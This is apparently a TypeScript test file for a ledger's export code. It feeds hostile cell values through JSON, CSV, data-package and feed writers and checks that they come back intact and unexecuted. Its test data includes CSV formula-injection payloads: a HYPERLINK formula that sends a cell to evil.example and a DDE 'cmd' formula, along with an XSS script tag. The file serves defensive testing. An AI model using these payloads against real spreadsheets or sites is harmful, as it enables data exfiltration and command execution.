// Cells that strangers wrote, through every format and back: what a program reads is what the ledger holds, to the letter, and no spreadsheet runs any of it.
import { parse } from 'csv-parse/sync';
import { parseAtomFeed, parseJsonFeed } from 'feedsmith';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { Change } from '../../src/domain/change.ts';
import type { Quote } from '../../src/domain/quote.ts';
import type { LedgerRecord } from '../../src/domain/record.ts';
import type { SnapshotLine } from '../../src/domain/snapshot.ts';
import { asWritten } from '../../src/publish/csv-text.ts';
import {
  atom,
  FORMATS,
  formatOf,
  jsonFeed,
  PublishedRecord,
  packagePieces,
  publishedRecord,
  summarise,
  TABLES,
} from '../../src/publish/index.ts';
import { RECORD_TABLES } from '../../src/publish/tables/index.ts';
import { readRow, type Table } from '../../src/publish/tables/table.ts';
import { resolveBlock } from '../../src/records/index.ts';
import { blockOf, told } from '../records/told.ts';

const CELLS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '＝1+1',
  '\t=1',
  '\r=1',
  "'=1",
  "'",
  '"',
  '""',
  'a "quoted" word',
  'a,b;c\td|e',
  'two\nlines',
  'two\r\nlines',
  '\n',
  'a\0b',
  'a\u{1}\u{b}\u{1f}\u{7f}\u{85}\u{2028}b',
  '\u{202e}txt.exe\u{202c} שלום مرحبا',
  '\u{feff}marked',
  ' blanks ',
  '😀 🏳️‍🌈 é \u{e9}',
  '</title><script>alert(1)</script>&amp;]]>',
  '{"a":1}',
  'null',
  '390',
  '1e5',
  '2025-05-23',
] as const;

const [plain] = resolveBlock(
  blockOf([told('a', '2026-04-24', 'RU>UA 193 military; UA>RU 193 military', { mediators: ['AE'] })]),
).records;
if (plain === undefined) throw new Error('no record');

/** A record in which every word of a stranger is this one. */
function recordOf(cell: string, at: number): LedgerRecord {
  const quote: Quote = { exact: cell, prefix: cell, suffix: cell, start: 0, end: cell.length };
  const record = plain as LedgerRecord;
  return {
    ...record,
    id: `r-${at}`,
    location: cell,
    agreement: cell,
    parties: ['RU', 'UA'],
    sources: record.sources.map((source) => ({
      ...source,
      eventId: `e-${at}`,
      ...{ url: `https://a.example/?q=${encodeURIComponent(cell)}`, title: cell, publisher: cell },
      event: {
        ...source.event,
        ...{ location: cell, agreement: cell },
        transfers: source.event.transfers.map((transfer) => ({
          ...transfer,
          claimedBy: cell,
          evidence: [quote, quote],
        })),
        evidence: { ...source.event.evidence, status: [quote], location: [quote], agreement: [quote] },
      },
    })),
  };
}

const RECORDS = CELLS.map(recordOf);

async function* stream<Value>(values: readonly Value[]): AsyncGenerator<Value, void, void> {
  for (const value of values) yield await Promise.resolve(value);
}

async function exported(id: string): Promise<string> {
  let text = '';
  // What is written is bytes: whatever UTF-8 cannot hold would be lost here.
  const decoder = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
  for await (const piece of formatOf(id)?.write(stream(RECORDS), { names: false, bom: false }) ?? [])
    text += decoder.decode(new TextEncoder().encode(piece));
  return text;
}

function rowsOf(table: Table, text: string): readonly unknown[] {
  const [head = [], ...lines] = parse(text);
  expect(head).toEqual(Object.keys(table.row.shape));
  for (const cell of lines.flat()) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]\D/u);
  return lines.map((line) =>
    readRow(table, Object.fromEntries(head.map((name, index) => [name, asWritten(line[index] ?? '')]))),
  );
}

describe('hostile cells come back to the letter', () => {
  const published = RECORDS.map((record) => publishedRecord(record, false));

  it('from JSON', async () => {
    expect(PublishedRecord.array().parse(JSON.parse(await exported('json')))).toEqual(published);
  });

  it('from JSON Lines, where a line is a line', async () => {
    const lines = (await exported('jsonl')).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((line) => PublishedRecord.parse(JSON.parse(line)))).toEqual(published);
  });

  it.each(RECORD_TABLES.map((table) => [table.id, table] as const))('from CSV, the table %s', async (id, table) => {
    const text = await exported(id === 'records' ? 'csv' : `csv-${id}`);
    expect(rowsOf(table, text)).toEqual(RECORDS.flatMap((record) => [...table.rowsOf(record)]));
  });

  it('from every format that there is', () => {
    // A format that is added needs its line above.
    expect(FORMATS.map(({ id }) => id)).toEqual(['json', 'jsonl', 'csv', 'csv-transfers', 'csv-claims']);
  });

  it('from the data package, every table of it', async () => {
    const at = '2026-05-02T10:00:00.000Z';
    const lines: readonly SnapshotLine[] = [
      { line: 'ledger', ledger: 'l1', at },
      ...RECORDS.map((record) => ({ line: 'record' as const, record, deal: null })),
      ...CELLS.flatMap((cell, index): readonly SnapshotLine[] => [
        {
          line: 'source',
          source: {
            ...{ id: `s${index}`, url: 'https://a.example/feed', title: cell, country: null, filter: 'all' },
            ...{ paused: false, addedAt: at, lastSuccessAt: null, addresses: 0, articles: 0 },
          },
        },
        {
          line: 'list',
          list: { name: `u${index}`, title: cell, url: null, licence: cell, published: null, addedAt: at, rows: 1 },
        },
      ]),
      { line: 'end', lines: 0 },
    ];
    const files = new Map<string, string>();
    for await (const { table, text } of packagePieces(stream(lines), false))
      files.set(table, (files.get(table) ?? '') + text);
    const rows = new Map(TABLES.map((table) => [table.id, rowsOf(table, files.get(table.id) ?? '')]));
    for (const table of RECORD_TABLES)
      expect(rows.get(table.id)).toEqual(RECORDS.flatMap((record) => [...table.rowsOf(record)]));
    const Titled = z.array(z.looseObject({ title: z.string() }));
    for (const id of ['sources', 'lists'])
      expect(Titled.parse(rows.get(id)).map(({ title }) => title)).toEqual([...CELLS]);
    expect(rows.get('outlets')).toHaveLength(CELLS.length);
  });
});

describe('feeds of hostile records', () => {
  const ABOUT = { ledger: 'l1', site: 'https://ledger.example', self: 'https://ledger.example/feed' };
  const AT = '2026-05-02T10:00:00.000Z';
  // A side may be of any name: a reviewer types it.
  const changes = CELLS.map(
    (cell, at): Change => ({
      ...{ id: `r-${at}`, kind: 'changed', at: AT, becameId: null },
      record: { ...recordOf(cell, at), parties: [cell, 'UA'], transfers: [] },
    }),
  );
  const titles = changes.map(({ record }) => (record === null ? '' : summarise(record)));

  it('come back from JSON Feed, to the letter', () => {
    const feed = parseJsonFeed(jsonFeed.write(changes, ABOUT));
    expect(feed.items?.map(({ id, url }) => [id, url])).toEqual(
      changes.map(({ id }) => [`urn:swapledger:l1:${id}`, `https://ledger.example/records/${id}`]),
    );
    const { items } = z
      .object({ items: z.array(z.object({ title: z.string() })) })
      .parse(JSON.parse(jsonFeed.write(changes, ABOUT)));
    expect(items.map(({ title }) => title)).toEqual(titles);
  });

  it('come back from Atom, less what XML cannot hold', () => {
    const xml = atom.write(changes, ABOUT);
    expect(parseAtomFeed(xml).entries).toHaveLength(CELLS.length);
    // Throws where it is not well formed.
    const { document } = new JSDOM(xml, { contentType: 'application/xml' }).window;
    const read = [...document.querySelectorAll('entry > title')].map(({ textContent }) => textContent);
    // An XML reader takes any end of a line for one.
    const expected = titles.map((title) => title.replaceAll(/(?![\t\n\r])\p{Cc}/gu, '').replaceAll(/\r\n?/g, '\n'));
    expect(read.map((title) => title?.trim())).toEqual(expected.map((title) => title.trim()));
  });
});
